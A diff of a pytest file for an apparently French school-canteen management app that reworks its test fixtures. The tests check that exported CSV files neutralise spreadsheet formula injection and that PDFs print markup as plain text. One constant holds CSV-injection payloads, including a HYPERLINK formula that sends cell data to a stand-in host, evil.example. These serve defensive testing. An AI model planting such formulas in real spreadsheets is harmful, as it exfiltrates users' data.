@@ -11,7 +11,7 @@ import pytest
 from pypdf import PdfReader
 
 from lib.services import invoicing, kitchen, reservations, trail
-from tests.conftest import DEMO_NOW, DEMO_TODAY, login
+from tests.conftest import DEMO_NOW, DEMO_TODAY
 
 ROOT = Path(__file__).resolve().parents[2]
 FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")', "+1+1", "-2+3", "@SUM(1;2)", "\t=1+1", "\r=1+1"]
@@ -27,29 +27,29 @@ def pdf_text(body: bytes) -> str:
 
 
 @pytest.mark.parametrize("reason", FORMULAS)
-def test_an_agents_reason_is_text_in_the_audit_csv(demo_db, reason):
-    agent, admin = login(demo_db, "agent@demo.fr"), login(demo_db, "admin@demo.fr")
-    _, year = reservations.school_years(demo_db, DEMO_TODAY)
-    lea = reservations.booking_context(demo_db, agent, 1, year.id)
+def test_an_agents_reason_is_text_in_the_audit_csv(town, reason):
+    agent, admin = town.login(town.agent), town.login(town.admin)
+    _, year = reservations.school_years(town.db, DEMO_TODAY)
+    alice = reservations.booking_context(town.db, agent, town.child_a, year.id)
     reservations.set_day(
-        demo_db, agent, lea, lea.services[0].id, date(2026, 11, 30), False, DEMO_NOW, late=True, reason=reason
+        town.db, agent, alice, alice.services[0].id, date(2026, 11, 30), False, DEMO_NOW, late=True, reason=reason
     )
-    rows = cells(trail.journal_csv(demo_db, admin))
+    rows = cells(trail.journal_csv(town.db, admin))
     assert rows[0] == trail.CSV_HEADERS
     [written] = [row[4] for row in rows[1:] if row[4]]
     assert written.startswith("'") and written[1:] in (reason, reason.strip())
 
 
-def test_site_and_diet_names_are_text_in_the_kitchen_csv_and_counts_stay_numbers(demo_db):
+def test_site_and_diet_names_are_text_in_the_kitchen_csv_and_counts_stay_numbers(town):
     def rename(cur):
-        for site_id, name in zip((1, 2, 3), FORMULAS[:3]):
+        for site_id, name in zip((town.school, town.wednesday_centre), FORMULAS[:2]):
             cur.execute("UPDATE sites SET name = ? WHERE id = ?", [name, site_id])
-        for code, name in zip(("standard", "sans_porc", "vegetarien"), FORMULAS[3:]):
+        for code, name in zip(("standard", "sans_porc"), FORMULAS[3:]):
             cur.execute("UPDATE diets SET label = ? WHERE code = ?", [name, code])
 
-    demo_db.write(rename)
-    cook = login(demo_db, "cuisine@demo.fr")
-    rows = cells(kitchen.sheet_file(demo_db, cook, date(2026, 11, 30), DEMO_NOW, "csv", count_as_printed=False))
+    town.db.write(rename)
+    cook = town.login(town.cook)
+    rows = cells(kitchen.sheet_file(town.db, cook, date(2026, 11, 30), DEMO_NOW, "csv", count_as_printed=False))
     body = [row for row in rows[1:] if row and row[1] != "TOTAL" and row[0] != "Statut"]
     assert body and {row[1][1:] for row in body} <= set(FORMULAS)
     assert {row[3][1:] for row in body if row[3] != "PAI panier-repas"} <= set(FORMULAS)
@@ -68,27 +68,29 @@ def test_every_csv_file_is_written_by_the_one_function():
     assert offenders == []
 
 
-def test_a_family_named_with_markup_gets_a_readable_invoice_pdf(demo_db):
-    demo_db.write(
+def test_a_family_named_with_markup_gets_a_readable_invoice_pdf(town):
+    town.db.write(
         lambda cur: cur.execute(
-            "UPDATE families SET name = ?, address = ? WHERE id = 1", [MARKUP, "12 <rue> des Lilas & Cie"]
+            "UPDATE families SET name = ?, address = ? WHERE id = ?",
+            [MARKUP, "12 <rue> des Lilas & Cie", town.family_a],
         )
     )
-    parent = login(demo_db, "parent@demo.fr")
-    invoice = demo_db.value("SELECT id FROM invoices WHERE number = 'F-2026-000267'")
-    body = invoicing.invoice_pdf(demo_db, parent, invoice, DEMO_NOW)
+    parent = town.login(town.parent_a)
+    invoice = invoicing.family_invoices(town.db, parent, DEMO_NOW)[0]
+    body = invoicing.invoice_pdf(town.db, parent, invoice.id, DEMO_NOW)
     text = pdf_text(body)
-    assert MARKUP in text and "12 <rue> des Lilas & Cie" in text and "F-2026-000267" in text
+    assert MARKUP in text and "12 <rue> des Lilas & Cie" in text and invoice.number in text
 
 
-def test_markup_in_site_service_and_diet_names_prints_as_typed_on_the_kitchen_sheet(demo_db):
-    demo_db.write(
+def test_markup_in_site_service_and_diet_names_prints_as_typed_on_the_kitchen_sheet(town):
+    town.db.write(
         lambda cur: (
-            cur.execute("UPDATE sites SET name = ? WHERE id = 1", [MARKUP]),
+            cur.execute("UPDATE sites SET name = ? WHERE id = ?", [MARKUP, town.wednesday_centre]),
             cur.execute("UPDATE diets SET label = 'Sans <porc> & co' WHERE code = 'sans_porc'"),
             cur.execute("UPDATE settings SET value = 'Belcastel <i>' WHERE key = 'town_name'"),
         )
     )
-    cook = login(demo_db, "cuisine@demo.fr")
-    text = pdf_text(kitchen.sheet_file(demo_db, cook, date(2026, 11, 30), DEMO_NOW, "pdf", count_as_printed=False))
+    cook = town.login(town.cook)
+    wednesday = date(2026, 12, 2)  # Basile, sans porc, eats at the Wednesday centre
+    text = pdf_text(kitchen.sheet_file(town.db, cook, wednesday, DEMO_NOW, "pdf", count_as_printed=False))
     assert MARKUP in text and "Sans <porc> & co" in text and "Belcastel <i>" in text
